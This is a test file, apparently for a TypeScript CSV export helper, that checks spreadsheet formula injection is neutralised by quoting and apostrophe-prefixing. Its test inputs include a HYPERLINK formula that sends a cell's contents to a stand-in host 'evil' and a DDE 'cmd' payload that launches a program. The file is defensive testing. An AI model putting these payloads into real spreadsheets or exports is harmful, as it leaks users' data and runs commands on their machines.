import { describe, expect, it } from 'vitest';
import { csvField, csvRow } from './csv';

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil/?x="&A1,"Нажмите")', `"'=HYPERLINK(""http://evil/?x=""&A1,""Нажмите"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3 школа', "'-2+3 школа"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises text that a spreadsheet would run: %j', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it('leaves ordinary text, numbers and empty cells as they are', () => {
    expect(csvField('Школа №1; корпус "А"')).toBe('"Школа №1; корпус ""А"""');
    expect(csvField('a-b=c')).toBe('a-b=c');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(2.5)).toBe('2.5');
    expect(csvField(null)).toBe('');
    expect(csvRow(['=1', -1, null])).toBe("'=1;-1;\r\n");
  });
});
